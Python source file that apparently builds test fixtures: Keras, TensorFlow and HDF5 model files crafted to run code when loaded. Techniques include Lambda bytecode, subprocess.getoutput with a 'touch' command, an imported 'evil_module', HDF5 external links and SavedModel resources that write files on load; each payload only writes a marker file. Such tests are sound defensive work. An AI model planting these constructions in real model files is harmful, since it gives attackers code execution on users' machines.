"""Files of Keras and TensorFlow that would leave a marker if anything of them ran."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Edit = Callable[[dict[str, Any]], object]
Attack = Callable[[Path, Path], Path]


def small(library: Any) -> Any:
    """Return a model with one normalization layer."""
    x = library.Input((4,), name="x")
    y = library.layers.Dense(4, name="dense")(x)
    return library.Model(x, library.layers.BatchNormalization(name="norm")(y))


def edit_archive(path: Path, edit: Edit) -> Path:
    """Change the configuration in a `.keras` file."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(members["config.json"])
    edit(config)
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path


def edit_hdf5(path: Path, edit: Edit) -> Path:
    """Change the configuration in an `.h5` file."""
    with h5py.File(path, "r+") as file:
        config = json.loads(file.attrs["model_config"])
        edit(config)
        file.attrs["model_config"] = json.dumps(config)
    return path


def layer(config: dict[str, Any], name: str) -> dict[str, Any]:
    """Return the configuration of a layer."""
    found: dict[str, Any] = next(
        entry for entry in config["config"]["layers"] if entry["config"]["name"] == name
    )
    return found


def saved(library: str, path: Path) -> Path:
    """Write the small model."""
    small(__import__(library)).save(path)
    return path


def with_lambda(model: str) -> Attack:
    """Return an attack by the bytecode of a Lambda; `model` is the name of the file."""

    def write(folder: Path, marker: Path) -> Path:
        import tf_keras

        where = str(marker)

        def code(x: Any) -> Any:
            open(where, "w").close()
            return x

        base = small(tf_keras)
        y = tf_keras.layers.Lambda(code, name="evil")(base.output)
        path = folder / model
        tf_keras.Model(base.input, y).save(path, **({} if path.suffix else {"save_format": "tf"}))
        marker.unlink(missing_ok=True)
        return path

    return write


def naming(function: str, module: str, library: str, model: str) -> Attack:
    """Return an attack by a function of any module as an activation or a class of a layer."""

    def write(folder: Path, marker: Path) -> Path:
        def edit(config: dict[str, Any]) -> None:
            entry = {"module": module, "config": function, "registered_name": function}
            layer(config, "dense")["config"]["activation"] = {"class_name": "function", **entry}

        del marker
        path = saved(library, folder / model)
        return edit_archive(path, edit) if path.suffix == ".keras" else edit_hdf5(path, edit)

    return write


def shell_command(folder: Path, marker: Path) -> Path:
    """A `.keras` of tf_keras that calls `subprocess.getoutput`, which no safe mode forbids."""

    def edit(config: dict[str, Any]) -> None:
        function = {
            "module": "subprocess",
            "class_name": "function",
            "config": "getoutput",
            "registered_name": "getoutput",
        }
        dense = layer(config, "dense")
        dense["class_name"] = "Lambda"
        dense["config"] = {
            "name": "dense",
            "trainable": True,
            "function": function,
            "function_type": "function",
            "output_shape": None,
            "output_shape_type": "raw",
        }
        dense["inbound_nodes"] = [["_CONSTANT_VALUE", -1, f"touch {marker}", {}]]

    return edit_archive(saved("tf_keras", folder / "command.keras"), edit)


def write_symbol(folder: Path, marker: Path) -> Path:
    """An `.h5` of tf_keras that calls `tf.io.write_file`."""

    def edit(config: dict[str, Any]) -> None:
        dense = layer(config, "dense")
        dense["class_name"] = "TFOpLambda"
        dense["config"] = {"name": "dense", "trainable": True, "function": "io.write_file"}
        dense["inbound_nodes"] = [["_CONSTANT_VALUE", -1, str(marker), {"contents": "x"}]]

    return edit_hdf5(saved("tf_keras", folder / "symbol.h5"), edit)


def imported_module(folder: Path, marker: Path) -> Path:
    """A `.keras` of tf_keras that imports a module of the working directory."""
    (folder / "evil_module.py").write_text(f"open({str(marker)!r}, 'w').close()\nEvil = object\n")

    def edit(config: dict[str, Any]) -> None:
        config.update(module="evil_module", class_name="Evil", registered_name="Evil")

    return edit_archive(saved("tf_keras", folder / "imports.keras"), edit)


def nested_import(folder: Path, marker: Path) -> Path:
    """The same, as a type deep in the configuration."""
    (folder / "evil_module.py").write_text(f"open({str(marker)!r}, 'w').close()\nEvil = object\n")

    def edit(config: dict[str, Any]) -> None:
        config["compile_config"] = None
        config["config"]["layers"][1]["config"]["extra"] = [
            {
                "class_name": "__typespec__",
                "spec_name": "Evil",
                "module": "evil_module",
                "config": [],
                "registered_name": None,
            }
        ]

    return edit_archive(saved("tf_keras", folder / "nested.keras"), edit)


def outside_weights(kind: str) -> Attack:
    """Return an attack that puts the bytes of another file into the weights."""

    def write(folder: Path, marker: Path) -> Path:
        del marker
        path, secret = saved("tf_keras", folder / f"{kind}.h5"), folder / "secret.bin"
        secret.write_bytes(np.arange(16, dtype=np.float32).tobytes())
        with h5py.File(path, "r+") as file:
            name = "model_weights/dense/dense/kernel:0"
            del file[name]
            if kind == "external":
                file.create_dataset(
                    name, (4, 4), np.float32, external=[(str(secret), 0, h5py.h5f.UNLIMITED)]
                )
            elif kind == "link":
                other = folder / "other.h5"
                with h5py.File(other, "w") as target:
                    target["w"] = np.ones((4, 4), np.float32)
                file[name] = h5py.ExternalLink(str(other), "/w")
            else:
                layout = h5py.VirtualLayout((4, 4), np.float32)
                layout[:] = h5py.VirtualSource(str(folder / "other.h5"), "w", (4, 4))
                file.create_virtual_dataset(name, layout)
        return path

    return write


def graph_that_writes(when: str) -> Attack:
    """Return a SavedModel that writes a file when it is loaded, run, or run in a function."""

    def write(folder: Path, marker: Path) -> Path:
        import tensorflow as tf

        class Resource(tf.saved_model.experimental.TrackableResource):  # type: ignore[misc]
            def _create_resource(self) -> Any:
                return tf.raw_ops.AnonymousHashTable(key_dtype=tf.int64, value_dtype=tf.int64)

            def _initialize(self) -> None:
                tf.io.write_file(str(marker), "loaded")

        class Module(tf.Module):  # type: ignore[misc]
            def __init__(self) -> None:
                super().__init__()
                self.v = tf.Variable([1.0, 2.0, 3.0])
                if when == "load":
                    self.resource = Resource()

            @tf.function(input_signature=[tf.TensorSpec([None, 3], tf.float32, "x")])  # type: ignore[untyped-decorator]
            def serve(self, x: Any) -> Any:
                if when == "run":
                    tf.io.write_file(str(marker), "ran")
                if when == "inside":
                    tf.cond(
                        tf.reduce_sum(x) > -1e9,
                        lambda: tf.io.write_file(str(marker), "ran").name and 0,
                        lambda: 0,
                    )
                if when == "print":
                    tf.print("ran", output_stream=f"file://{marker}")
                return {"y": x * self.v}

        module = Module()
        tf.saved_model.save(module, str(folder / when), signatures=module.serve)
        marker.unlink(missing_ok=True)
        return folder / when

    return write


ATTACKS: dict[str, Attack] = {
    "Lambda in .h5": with_lambda("lambda.h5"),
    "Lambda in .keras": with_lambda("lambda.keras"),
    "Lambda in SavedModel": with_lambda("lambda"),
    "a function of subprocess": shell_command,
    "tf.io.write_file": write_symbol,
    "a module": imported_module,
    "a module, nested": nested_import,
    "a function in Keras 3": naming("getoutput", "subprocess", "keras", "function.keras"),
    "a function in .h5": naming("getoutput", "subprocess", "keras", "function.h5"),
    "HDF5 external storage": outside_weights("external"),
    "HDF5 external link": outside_weights("link"),
    "HDF5 virtual dataset": outside_weights("virtual"),
    "a graph when loaded": graph_that_writes("load"),
    "a graph when run": graph_that_writes("run"),
    "a graph in a branch": graph_that_writes("inside"),
    "a graph that prints": graph_that_writes("print"),
}
